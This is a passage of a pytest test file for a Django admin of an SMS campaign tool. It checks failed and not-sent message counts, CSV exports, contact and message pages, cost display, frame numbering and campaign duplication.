        MessageFactory(campaign=campaign, status="delivered")
        MessageFactory(campaign=campaign, status="rejected", error_code="783", reason="Template variable exceeded.")
        MessageFactory(campaign=campaign, status="failed", error_code="", reason="Connection refused")
        for _ in range(3):
            MessageFactory(campaign=campaign, status="failed", error_code=NOT_SENT, reason="Cancelled before sending.")
        page = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk]))
        assert page.context["progress"]["groups"]["failed"] == 2
        link = re.search(r'<a href="([^"]+)" class="herald-export-failed" title="([^"]+)">', page.content.decode())
        assert link[2] == (
            "The messages the progress panel counts as failed; not those closed before they were sent, counted apart "
            "as not sent."
        )
        response = client.get(link[1].replace("&amp;", "&"))
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert sorted((row["status"], row["reason"]) for row in rows) == [
            ("failed", "Connection refused"), ("rejected", "Template variable exceeded.")
        ]  # fmt: skip
        assert "-without-not-sent.csv" in response["Content-Disposition"]
        every = client.get(reverse("admin:campaigns_campaign_export", args=[campaign.pk]), {"status": "failed"})
        assert len(list(csv.DictReader(io.StringIO(b"".join(every.streaming_content).decode())))) == 4, "asked so"

    def test_a_not_sent_row_of_the_export_says_not_sent_as_the_list_does(self, client):
        """Its status column said `failed` while the message list said "Not sent"; `?status=not_sent`, the list's
        choice, was refused as "not a message status"."""
        campaign = CampaignFactory(state="cancelled", account__kind="mobtexting", not_sent=2,
                                   counters={"delivered": 1, "expired": 1, "failed": 2})  # fmt: skip
        MessageFactory(campaign=campaign, status="delivered")
        MessageFactory(campaign=campaign, status="failed", error_code="", reason="Connection refused")
        MessageFactory(campaign=campaign, status="failed", error_code=NOT_SENT, reason="cancelled before sending")
        MessageFactory(campaign=campaign, status="expired", error_code=NOT_SENT, reason="send-by deadline passed")
        url = reverse("admin:campaigns_campaign_export", args=[campaign.pk])

        def exported(**query):
            response = client.get(url, query)
            return response, list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

        _, rows = exported()
        assert [(row["status"], row["reason"]) for row in rows] == [
            ("delivered", ""), ("failed", "Connection refused"), ("not_sent", "cancelled before sending"),
            ("not_sent", "send-by deadline passed"),
        ]  # fmt: skip
        assert rows[2]["meaning"] == "The campaign was cancelled before this message was sent."
        response, rows = exported(status="not_sent")
        assert [row["reason"] for row in rows] == ["cancelled before sending", "send-by deadline passed"]
        assert f'filename="campaign-{campaign.pk}-messages-not-sent.csv"' in response["Content-Disposition"]
        refused = client.get(url + "?status=not_sent&status=failed")
        assert (refused.status_code, refused.content.decode()) == (
            400, "status: 'not_sent' goes alone, with no other status and no not_sent; export the others apart."
        )  # fmt: skip

    def test_the_export_refuses_a_not_sent_value_it_does_not_know(self, client, sent):
        response = client.get(reverse("admin:campaigns_campaign_export", args=[sent.pk]), {"not_sent": "no"})
        assert response.status_code == 400
        assert response.content.decode() == "not_sent: 'no' is not understood; the values are 'exclude' and 'only'."

    def test_a_campaign_without_failures_does_not_offer_them_until_one_fails(self, client):
        campaign = CampaignFactory(state="sending", counters={"delivered": 2, "submitted": 1})
        html = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk])).content.decode()
        assert '<li class="herald-export-failed-item" hidden>' in html, "no failed message to export yet"
        assert 'class="herald-export"' in html, "all its messages are still offered"


class TestMessagesOfACampaign:
    """ "See every message" on a campaign's page: the list says which campaign, offers to clear it, and exports."""

    def list_of(self, client, *query):
        return client.get(reverse("admin:campaigns_message_changelist") + "?" + "&".join(query))

    def test_the_list_names_the_campaign_it_is_filtered_to_and_offers_to_clear_it(self, client, sent):
        CampaignFactory(name="Another campaign")
        MessageFactory(address="+919800000099")
        response = self.list_of(client, f"campaign__id__exact={sent.pk}")
        html = response.content.decode()
        sidebar = html[html.index('id="changelist-filter"') :]
        assert "By campaign" in sidebar and f"{sent.name}</a>" in sidebar and "Another campaign" not in sidebar
        assert "Clear all filters" in html
        assert f"<h2>Messages of the campaign “{sent.name}”</h2>" in html
        assert len(response.context["cl"].result_list) == 8 and "+919800000099" not in html

    def test_no_query_lists_the_campaigns_to_offer_the_filter(self, client, sent):
        with CaptureQueriesContext(connection) as unfiltered:
            html = self.list_of(client).content.decode()
        assert "By campaign" not in html
        with CaptureQueriesContext(connection) as filtered:
            self.list_of(client, f"campaign__id__exact={sent.pk}")
        of_campaigns = [
            q["sql"] for q in filtered.captured_queries if q["sql"].startswith('SELECT "campaigns_campaign"')
        ]
        assert len(of_campaigns) == 1 and f'"campaigns_campaign"."id" = {sent.pk}' in of_campaigns[0]
        assert len(filtered.captured_queries) <= len(unfiltered.captured_queries) + 1

    @pytest.mark.parametrize("value", ["abc", "%C2%B2"])  # "²": a digit to str.isdigit(), not a number to int()
    def test_a_campaign_id_that_is_not_a_number_is_an_error_not_a_500(self, client, value):
        response = self.list_of(client, f"campaign__id__exact={value}")
        assert response.status_code == 302 and response["Location"].endswith("?e=1")

    def test_a_campaign_that_is_no_more_is_said_so_and_offers_no_export(self, client):
        html = self.list_of(client, "campaign__id__exact=987654").content.decode()
        assert "#987654 (no such campaign)" in html and "Clear all filters" in html and "herald-export" not in html

    def test_the_filtered_list_exports_what_it_shows(self, client, sent):
        export = reverse("admin:campaigns_campaign_export", args=[sent.pk])
        html = self.list_of(client, f"campaign__id__exact={sent.pk}").content.decode()
        assert f'<a href="{export}" class="herald-export">Export these (CSV)</a>' in html
        html = self.list_of(client, f"campaign__id__exact={sent.pk}", "q=", "o=-1").content.decode()  # empty search
        assert "Export these (CSV)" in html
        html = self.list_of(client, f"campaign__id__exact={sent.pk}", "status=rejected").content.decode()
        rejected = f"{export}?status=rejected&amp;not_sent=exclude"  # as the list's Rejected: none closed unsent
        assert f'<a href="{rejected}" class="herald-export">Export these (CSV)</a>' in html
        # A search narrows the list further than the export goes: the link says what it exports.
        html = self.list_of(
            client, f"campaign__id__exact={sent.pk}", "status=rejected", "q=%2B919800000001"
        ).content.decode()
        assert f'<a href="{rejected}" class="herald-export">Export this campaign’s rejected messages (CSV)</a>' in html
        assert "herald-export" not in self.list_of(client, "status=rejected").content.decode()

    def test_the_export_is_offered_to_whoever_may_export(self, sent):
        may = staff("campaigns.view_campaign", "campaigns.view_message")
        assert "Export these (CSV)" in self.list_of(may, f"campaign__id__exact={sent.pk}").content.decode()
        may_not = staff("campaigns.view_message")
        html = self.list_of(may_not, f"campaign__id__exact={sent.pk}").content.decode()
        assert "herald-export" not in html and sent.name in html

    def test_the_progress_panels_failure_links_take_the_status_filter(self, client, sent):
        """The panel's failure counts link with status__exact: the list takes them as its status filter, which the
        sidebar shows and the export follows."""
        response = self.list_of(client, f"campaign__id__exact={sent.pk}", "status__exact=rejected")
        assert response.status_code == 302
        followed = client.get(response["Location"])
        assert [m.status for m in followed.context["cl"].result_list] == ["rejected", "rejected"]
        assert "Export these (CSV)" in followed.content.decode()


def test_a_contacts_page_shows_its_messages_and_opt_outs(client):
    contact = ContactFactory(phone="+919812345678")
    campaign = CampaignFactory(name="Diwali offers", account__kind="mobtexting")
    sent = MessageFactory(campaign=campaign, contact=contact, address=contact.phone, status="rejected",
                          error_code="789", reason="Sender is not registered for the template.")  # fmt: skip
    MessageFactory(address="+919800000001")
    html = client.get(reverse("admin:contacts_contact_change", args=[contact.pk])).content.decode()
    assert 'id="contact-messages"' in html and "Diwali offers" in html
    assert f">{time_shown(sent.created_at)}</a>" in html, "its time in the site's zone, named"
    assert "not registered for this template on DLT" in html
    assert "+919800000001" not in html


def test_a_contacts_messages_say_not_sent_for_one_closed_before_it_was_sent(client):
    """The contact's "Messages" said "Failed · cancelled before sending not-sent" for a message its campaign's
    cancel closed, which the message list calls "Not sent"."""
    contact = ContactFactory(phone="+919812345678")
    campaign = CampaignFactory(name="Diwali offers", state="cancelled")
    MessageFactory(campaign=campaign, contact=contact, address=contact.phone, status="failed", error_code=NOT_SENT,
                   reason="cancelled before sending")  # fmt: skip
    html = client.get(reverse("admin:contacts_contact_change", args=[contact.pk])).content.decode()
    section = html[html.index('id="contact-messages"') :]
    section = section[: section.index("</table>")]
    assert '<span class="herald-status herald-status-not_sent">Not sent</span>' in section
    assert "Failed" not in section and "not-sent" not in section
    assert (
        "cancelled before sending" in section and "The campaign was cancelled before this message was sent." in section
    )


def test_a_not_sent_messages_own_page_is_named_not_sent_as_its_status_reads(client):
    """Its title and breadcrumbs said "+919812345678 (failed)" while its Status field said "Not sent"."""
    message = MessageFactory(address="+919812345678", status="failed", error_code=NOT_SENT,
                             reason="cancelled before sending")  # fmt: skip
    html = client.get(reverse("admin:campaigns_message_change", args=[message.pk])).content.decode()
    assert "<title>+919812345678 (not sent) |" in html
    assert html.count("+919812345678 (not sent)") >= 2, "the title, the heading and the breadcrumbs"
    assert "(failed)" not in html
    expired = MessageFactory(address="+919812345679", status="expired", error_code="")
    assert str(expired) == "+919812345679 (expired)", "a failure sent or refused keeps its status"


def test_a_failed_messages_page_says_what_its_failure_means(client):
    message = MessageFactory(campaign__account__kind="mobtexting", status="rejected", error_code="783",
                             reason="Template variable exceeded 30 characters.")  # fmt: skip
    html = client.get(reverse("admin:campaigns_message_change", args=[message.pk])).content.decode()
    assert "what it means" in html.lower() and "longer than the 30 characters DLT allows" in html
    labels = re.findall(r"<label>([^<]*):</label>", html)
    assert labels.count("Status") == 1, labels  # it was shown again at the end of the page
    assert labels[labels.index("Reason") + 1] == "What it means", labels


@pytest.mark.parametrize(
    ("kind", "cost", "shown"),
    [
        ("mobtexting", "0.18", "0.18 INR"),
        ("octopush", "0.045", "0.045 EUR"),
        ("devino", "2", "2.00 RUB"),
        ("devino", "1234.5", "1,234.50 RUB"),
    ],
)
def test_a_messages_cost_reads_in_its_accounts_currency(client, kind, cost, shown):
    """It read "0.18000", the column's five places and no currency; "1234.50 RUB" without its thousands separator."""
    message = MessageFactory(campaign__account__kind=kind, status="delivered", cost=cost)
    html = client.get(reverse("admin:campaigns_message_change", args=[message.pk])).content.decode()
    assert re.search(rf"<label>Cost:</label>\s*<div class=\"readonly\">{re.escape(shown)}</div>", html), html
    assert re.findall(r"<label>([^<]*):</label>", html).count("Cost") == 1


def test_a_started_campaigns_page_lists_only_the_audience_it_was_given(client):
    """Django shows an empty relation as its label with nothing after it ("Tags:", "Contacts:" blank)."""
    segment = SegmentFactory(name="VIP customers")
    only_segment = CampaignFactory(state="completed", segments=[segment])
    labels = _labels(client, only_segment)
    assert "Segments" in labels
    assert not {"Tags operator", "Tags", "Excluded tags", "Contacts"} & set(labels), labels

    news, staff_tag, listed = TagFactory(name="news"), TagFactory(name="staff"), ContactFactory()
    everything = CampaignFactory(
        state="completed", tags=[news], excluded_tags=[staff_tag], segments=[segment], contacts=[listed]
    )
    assert {"Tags operator", "Tags", "Segments", "Excluded tags", "Contacts"} <= set(_labels(client, everything))
    draft = CampaignFactory(state="draft", segments=[segment])
    assert {"Tags", "Excluded tags", "Contacts"} <= set(_labels(client, draft)), "the composer offers them all"


def _labels(client, campaign) -> list[str]:
    html = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk])).content.decode()
    return re.findall(r"<label[^>]*>([^<]*):</label>", html)


def test_a_cancelled_campaigns_messages_closed_unsent_are_no_failures_on_its_page_or_the_list(client):
    """Cancelled at 13 %, a campaign read "Failed 3,161" and "Delivered 12.8%" where 3,124 were never sent."""
    campaign = CampaignFactory(
        state="cancelled", counters={"delivered": 463, "undelivered": 37, "failed": 3124}, not_sent=3124
    )
    listed = client.get(reverse("admin:campaigns_campaign_changelist")).content.decode()
    assert '<td class="field-delivery_rate">92.6%</td>' in listed, "463 of the 500 sent"
    page = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk])).content.decode()
    assert re.search(r'<dt><a href="[^"]+">Failed</a></dt><dd data-progress="groups.failed">37</dd>', page)
    assert re.search(
        r'data-progress="not_sent_box">\s*<dt><a href="[^"]+">Not sent</a></dt><dd data-progress="groups.not_sent">3,124</dd>',
        page,
    ), "written as the refreshes write it (campaign-progress.js), not 3124 until the first"


def test_a_cancelled_campaigns_not_sent_are_one_thing_on_its_page_and_in_its_message_list(client):
    """Cards said Failed 2 and Not sent 3; the donut said "failed 4", failures by reason led with "3 · failed ·
    not-sent · cancelled before sending", and its link listed 4 failed messages, with no "Not sent" to choose."""
    campaign = CampaignFactory(state="cancelled", account__kind="mobtexting", not_sent=3,
                               counters={"delivered": 1, "undelivered": 1, "failed": 4})  # fmt: skip
    MessageFactory(campaign=campaign, status="delivered")
    MessageFactory(campaign=campaign, status="undelivered", error_code="013", reason="MOB-OFF")
    MessageFactory(campaign=campaign, status="failed", error_code="", reason="Connection refused")
    closed = [
        MessageFactory(campaign=campaign, status="failed", error_code=NOT_SENT, reason="cancelled before sending")
        for _ in range(3)
    ]
    body = client.get(progress_url(campaign)).json()
    assert (body["groups"]["failed"], body["groups"]["not_sent"]) == (2, 3)
    assert [(item["status"], item["count"]) for item in body["breakdown"]] == [
        ("delivered", 1), ("undelivered", 1), ("failed", 1), ("not_sent", 3),
    ], "the donut: not sent a slice of its own, counted as the cards count it"  # fmt: skip
    assert sorted((f["status"], f["error_code"], f["count"]) for f in body["failures"]) == [
        ("failed", "", 1), ("undelivered", "013", 1),
    ], "failures by reason: what the cards call failed"  # fmt: skip

    def listed(status):
        url = reverse("admin:campaigns_message_changelist")
        return client.get(url, {"campaign__id__exact": campaign.pk, "status": status})

    response = listed("failed")  # the link of failures by reason's "failed" row
    assert [m.reason for m in response.context["cl"].result_list] == ["Connection refused"]
    sidebar = response.content.decode()[response.content.decode().index('id="changelist-filter"') :]
    assert re.search(r'href="\?[^"]*status=not_sent[^"]*"[^>]*>Not sent</a>', sidebar), "offered beside Failed"
    response = listed("not_sent")
    assert sorted(m.pk for m in response.context["cl"].result_list) == sorted(m.pk for m in closed)
    html = response.content.decode()
    assert html.count('<td class="field-status_shown">Not sent</td>') == 3, "each row says what the filter says"
    export = re.search(r'<a href="([^"]+)" class="herald-export">Export these \(CSV\)</a>', html)[1]
    rows = list(
        csv.DictReader(io.StringIO(b"".join(client.get(export.replace("&amp;", "&")).streaming_content).decode()))
    )
    assert sorted(int(row["id"]) for row in rows) == sorted(m.pk for m in closed), "the export holds what it lists"


def test_the_failed_card_of_a_cancelled_campaign_opens_the_list_of_what_it_counts(client):
    """Its Failed card said 3 (rejected, undelivered, expired) with no list to open: the list's Failed held 0 (status
    failed only, the not sent apart). The card, and the Not sent, Sending and Suppressed cards, link to their list;
    "All failures" reads the campaign's failed messages' index, as Failed does."""
    campaign = CampaignFactory(state="cancelled", account__kind="mobtexting", not_sent=2,
                               counters={"delivered": 1, "rejected": 1, "undelivered": 1, "expired": 2, "failed": 1,
                                         "suppressed": 1})  # fmt: skip
    MessageFactory(campaign=campaign, status="delivered")
    failed = [
        MessageFactory(campaign=campaign, status="rejected", error_code="783", reason="Template variable exceeded."),
        MessageFactory(campaign=campaign, status="undelivered", error_code="013", reason="MOB-OFF"),
        MessageFactory(campaign=campaign, status="expired", error_code="", reason="no report"),
    ]
    MessageFactory(campaign=campaign, status="expired", error_code=NOT_SENT, reason="send-by deadline passed")
    MessageFactory(campaign=campaign, status="failed", error_code=NOT_SENT, reason="cancelled before sending")
    with connection.cursor() as cursor:  # a large campaign: its failures are found through their own index
        cursor.execute(
            """INSERT INTO campaigns_message (campaign_id, account_id, address, status, channel)
               SELECT %s, %s, '+9199000' || lpad(n::text, 5, '0'), 'delivered', 'sms' FROM generate_series(1, 20000) n""",
            [campaign.pk, campaign.account_id],
        )
        cursor.execute("ANALYZE campaigns_message")
    page = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk]))
    assert page.context["progress"]["groups"]["failed"] == 3
    html = page.content.decode()
    card = re.search(r'<div class="counter-failed"><dt><a href="([^"]+)">Failed</a></dt><dd[^>]*>3</dd>', html)
    assert card, "the Failed card links to its list"
    for status, label in (("not_sent", "Not sent"), ("suppressed", "Suppressed"), ("sending", "Sending")):
        assert f'?campaign__id__exact={campaign.pk}&amp;status={status}">{label}</a></dt>' in html

    with CaptureQueriesContext(connection) as queries:
        response = client.get(card[1].replace("&amp;", "&"))
    assert sorted(m.pk for m in response.context["cl"].result_list) == sorted(m.pk for m in failed)
    listed = response.content.decode()
    assert re.search(r'<li class="selected">\s*<a href="[^"]*status=failures[^"]*"[^>]*>All failures</a>', listed)
    read = [q["sql"] for q in queries.captured_queries if 'FROM "campaigns_message"' in q["sql"]]
    assert len(read) == 2, read  # the count and the page
    with connection.cursor() as cursor:
        for sql in read:
            cursor.execute("EXPLAIN " + sql)
            plan = "\n".join(row[0] for row in cursor.fetchall())
            assert "message_campaign_failure_idx" in plan and "Seq Scan on campaigns_message" not in plan, plan
    export = re.search(r'<a href="([^"]+)" class="herald-export">Export these \(CSV\)</a>', listed)[1]
    rows = list(
        csv.DictReader(io.StringIO(b"".join(client.get(export.replace("&amp;", "&")).streaming_content).decode()))
    )
    assert sorted(int(row["id"]) for row in rows) == sorted(m.pk for m in failed), "the export holds what it lists"


def test_nothing_reads_as_one_dash_on_the_campaign_list(client):
    """The audience not yet counted said Django's "-" beside the progress's "–"."""
    CampaignFactory(state="draft", audience_size=None, counters={})
    html = client.get(reverse("admin:campaigns_campaign_changelist")).content.decode()
    assert '<td class="field-audience_size_shown">–</td>' in html
    assert '<td class="field-progress">–</td>' in html
    assert '<td class="field-audience_size_shown">-</td>' not in html


def test_the_campaign_and_import_lists_write_counts_with_thousands_separators(client):
    """ "3746" in the campaign list and "57300" in the imports', where the pages write "3,746"."""
    CampaignFactory(state="completed", audience_size=3746)
    listed = client.get(reverse("admin:campaigns_campaign_changelist")).content.decode()
    assert '<td class="field-audience_size_shown">3,746</td>' in listed
    contact_import = ContactImport.objects.create(kind="contacts", original_name="big.csv", created=57300, invalid=1200)
    imports = client.get(reverse("admin:contacts_contactimport_changelist")).content.decode()
    assert '<td class="field-rows">57,300\N{NO-BREAK SPACE}created, 1,200\N{NO-BREAK SPACE}invalid</td>' in imports
    page = client.get(reverse("admin:contacts_contactimport_change", args=[contact_import.pk])).content.decode()
    assert ">Counts<" not in page, "a box of the stored counts, stale while it runs, beside the live panel's"


def test_a_messages_frame_is_named_with_its_campaign_and_counted_from_one(client):
    """ "frame 2 of 1" read as the second frame of one, and a campaign's first frame was "frame 0"."""
    frame = FrameFactory(seq=0, state="sent")
    assert str(frame) == f"frame 1 of campaign {frame.campaign_id} (sent)"
    transactional = FrameFactory(campaign=None, seq=0, state="sent")
    assert str(transactional) == f"transactional frame {transactional.pk} (sent)"
    page = client.get(reverse("admin:campaigns_frame_change", args=[frame.pk])).content.decode()
    assert re.search(r"<label>Number:</label>\s*<div class=\"readonly\">1</div>", page), page
    assert "<label>Seq:</label>" not in page
    listed = client.get(reverse("admin:campaigns_frame_changelist")).content.decode()
    assert '<td class="field-number">1</td>' in listed and '<td class="field-number">–</td>' in listed


def test_a_campaigns_page_leads_to_its_frames_listed_in_their_order(client):
    """A campaign's frames were found only in the list of every campaign's, newest id first, where the prepare's
    two shares (numbering their frames side by side) put frame 3 before frame 2."""
    campaign, other = CampaignFactory(state="completed"), CampaignFactory(state="completed")
    for seq in (0, 2, 1):  # the order the shares happened to write them in
        FrameFactory(campaign=campaign, account=campaign.account, seq=seq, state="sent")
    FrameFactory(campaign=other, account=other.account, seq=0, state="sent")
    page = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk])).content.decode()
    url = reverse("admin:campaigns_frame_changelist") + f"?campaign__id__exact={campaign.pk}"
    assert f'<a href="{url}">3 frames (requests to the provider)</a>' in page

    listed = client.get(url).content.decode()

    assert re.findall(r'<td class="field-number">(\d+)</td>', listed) == ["1", "2", "3"]
    assert campaign.name in re.search(r'id="changelist-filter".*', listed, re.S).group(0), "the filter names it"
    every = client.get(reverse("admin:campaigns_frame_changelist")).content.decode()
    assert re.findall(r'<td class="field-number">(\d+)</td>', every) == ["1", "2", "3", "1"], "newest first"
    draft = client.get(reverse("admin:campaigns_campaign_change", args=[CampaignFactory(state="draft").pk]))
    assert re.search(r"<label>Frames:</label>\s*<div class=\"readonly\">–</div>", draft.content.decode())


class TestDuplicate:
    def test_a_finished_campaign_is_duplicated_into_a_draft_with_its_message_audience_and_options(self, client):
        news, staff_tag = TagFactory(), TagFactory()
        segment, listed = SegmentFactory(positive_tags=[news]), ContactFactory()
        campaign = CampaignFactory(
            state="completed", tags=[news], tags_operator="all", excluded_tags=[staff_tag], segments=[segment],
            contacts=[listed], text="Sale {{first_name}}", purpose="service", smooth_minutes=15, frame_size=50,
            send_at=timezone.now() - timedelta(days=1), send_by=timezone.now(), counters={"delivered": 3},
            audience_size=3, cost_actual="0.30", launched_at=timezone.now(), completed_at=timezone.now(),
        )  # fmt: skip
        page = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk])).content.decode()
        assert f'href="{action_url(campaign, "duplicate")}" class="herald-action-duplicate"' in page
        assert "herald-confirm-button" in client.get(action_url(campaign, "duplicate")).content.decode()

        response = client.post(action_url(campaign, "duplicate"))

        copy = Campaign.objects.exclude(pk=campaign.pk).get()
        assert response["Location"] == reverse("admin:campaigns_campaign_change", args=[copy.pk])
        said = [str(m) for m in get_messages(response.wsgi_request)]
        assert said == [f"“Copy of {campaign.name}” is a draft copy of “{campaign.name}”: check it, then launch it."]
        assert (copy.state, copy.counters, copy.audience_size, copy.cost_actual, copy.launched_at) == (
            "draft", {}, None, 0, None
        )  # fmt: skip
        same = ["account_id", "sender_id", "channel", "text", "purpose", "tags_operator", "smooth_minutes", "frame_size"]  # fmt: skip
        assert [getattr(copy, name) for name in same] == [getattr(campaign, name) for name in same]
        assert (copy.send_at, copy.send_by, copy.parent) == (None, None, None), "its times were the original's"
        for relation in ("tags", "excluded_tags", "segments", "contacts"):
            assert set(getattr(copy, relation).all()) == set(getattr(campaign, relation).all()), relation
        assert copy.created_by.username == response.wsgi_request.user.username

    def test_duplicating_needs_the_add_permission_and_a_post(self):
        campaign = CampaignFactory(state="cancelled")
        changer = staff("campaigns.view_campaign", "campaigns.change_campaign")
        assert changer.post(action_url(campaign, "duplicate")).status_code == 403
        adder = staff("campaigns.view_campaign", "campaigns.add_campaign")
        adder.get(action_url(campaign, "duplicate"))
        assert Campaign.objects.count() == 1, "the page only asks"
        assert adder.post(action_url(campaign, "duplicate")).status_code == 302
        assert Campaign.objects.count() == 2
